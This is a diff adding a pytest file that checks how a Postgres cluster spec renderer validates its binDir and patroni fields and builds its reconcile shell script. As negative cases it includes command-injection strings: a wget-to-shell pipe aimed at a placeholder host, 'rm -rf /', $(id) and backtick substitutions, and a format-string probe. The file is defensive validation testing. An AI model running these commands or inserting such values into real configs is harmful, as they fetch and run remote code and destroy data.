@@ -1,0 +1,112 @@
+"""spec.imageContract: binDir is an absolute path of plain characters with {version} its only
+placeholder, substituted by replacement (never str.format); patroni is a name on PATH or such a path.
+Anything else is a positioned spec error, never a traceback and never a word in the reconcile script."""
+
+from __future__ import annotations
+
+import shlex
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from pgrender.components.reconcile import reconcile_script
+from pgrender.plan import ClusterPlan
+from tests.conftest import base_spec, run_cli
+
+SPEC_TEXT = """\
+apiVersion: pgrender.io/v1alpha1
+kind: PostgresCluster
+metadata: {{name: hippo, namespace: db}}
+spec:
+  postgresVersion: 16
+  imageContract:
+    {field}: {value}
+  instances:
+    - name: instance1
+      replicas: 1
+      dataVolume: {{size: 1Gi}}
+"""
+
+
+def validate(tmp_path: Path, field: str, value: str) -> Any:
+    path = tmp_path / "spec.yaml"
+    path.write_text(SPEC_TEXT.format(field=field, value=value))
+    return run_cli("validate", str(path)), path
+
+
+@pytest.mark.parametrize(
+    ("value", "message"),
+    [
+        ('"/x; wget -q -O- http://example.invalid/x | sh #"', "' ', '#', ':', ';', '|' not allowed"),
+        ('"/usr/lib/postgresql/{x}/bin"', "'{', '}' not allowed"),
+        ('"/usr/lib/postgresql/{version/bin"', "'{' not allowed"),
+        ('"/usr/lib/postgresql/{0.__class__}/bin"', "'{', '}' not allowed"),
+        ('"/usr/lib/$(id)/bin"', "'$', '(', ')' not allowed"),
+        ('"/usr/lib/`id`/bin"', "'`' not allowed"),
+        ('"/usr/lib/post gres"', "' ' not allowed"),
+        ('"/usr/lib/\\npsql"', "'\\n' not allowed"),
+        ('"usr/lib/postgresql/{version}/bin"', "is not an absolute path"),
+        ('""', "is not an absolute path"),
+        ('"/usr/lib/../../tmp"', "'..' is not allowed"),
+    ],
+)
+def test_bad_bin_dir_is_a_positioned_error(tmp_path: Path, value: str, message: str) -> None:
+    result, path = validate(tmp_path, "binDir", value)
+    assert result.exit_code == 2
+    assert "Traceback" not in result.stderr
+    assert result.stderr.startswith(f"{path}:7:5: spec.imageContract.binDir: "), result.stderr
+    assert message in result.stderr
+    assert len(result.stderr.splitlines()) == 1
+
+
+@pytest.mark.parametrize(
+    "value",
+    ['"patroni; rm -rf /"', '"-patroni"', '"patroni --x"', '"$(patroni)"', '"/usr/bin/patroni x"', '"bin/patroni"'],
+)
+def test_bad_patroni_is_a_positioned_error(tmp_path: Path, value: str) -> None:
+    result, path = validate(tmp_path, "patroni", value)
+    assert result.exit_code == 2
+    assert result.stderr.startswith(f"{path}:7:5: spec.imageContract.patroni: "), result.stderr
+
+
+@pytest.mark.parametrize("value", ["patroni", "patroni3", "/usr/local/bin/patroni", "/opt/patroni-4.0/bin/patroni"])
+def test_good_patroni(tmp_path: Path, value: str) -> None:
+    assert validate(tmp_path, "patroni", value)[0].exit_code == 0
+
+
+@pytest.mark.parametrize(
+    ("bin_dir", "resolved"),
+    [
+        (None, "/usr/lib/postgresql/16/bin"),
+        ("/usr/pgsql-{version}/bin", "/usr/pgsql-16/bin"),
+        ("/opt/pg/{version}/{version}/bin", "/opt/pg/16/16/bin"),
+        ("/usr/local/bin", "/usr/local/bin"),
+        ("/opt/post_gres.d/bin-x/", "/opt/post_gres.d/bin-x/"),
+    ],
+)
+def test_bin_dir_substitutes_version_only(
+    plan_of: Callable[[dict[str, Any]], ClusterPlan], bin_dir: str | None, resolved: str
+) -> None:
+    spec = base_spec()
+    if bin_dir is not None:
+        spec["spec"]["imageContract"] = {"binDir": bin_dir}
+    plan = plan_of(spec)
+    assert plan.bin_dir == resolved
+    script = reconcile_script(plan)
+    assert f"until {resolved}/pg_isready --quiet; do sleep 2; done\n" in script
+    assert f"\n{resolved}/psql --no-psqlrc" in script
+
+
+def test_the_script_has_the_words_it_should(plan_of: Callable[[dict[str, Any]], ClusterPlan]) -> None:
+    spec = base_spec()
+    spec["spec"]["imageContract"] = {"binDir": "/usr/pgsql-{version}/bin"}
+    script = reconcile_script(plan_of(spec))
+    lines = script.replace("\\\n", " ").splitlines()
+    (wait,) = [shlex.split(line) for line in lines if line.startswith("until ")]
+    assert wait == ["until", "/usr/pgsql-16/bin/pg_isready", "--quiet;", "do", "sleep", "2;", "done"]
+    (psql,) = [shlex.split(line) for line in lines if "psql" in line]
+    assert psql[0] == "/usr/pgsql-16/bin/psql"
+    assert subprocess.run(["sh", "-n", "-c", script], check=False).returncode == 0
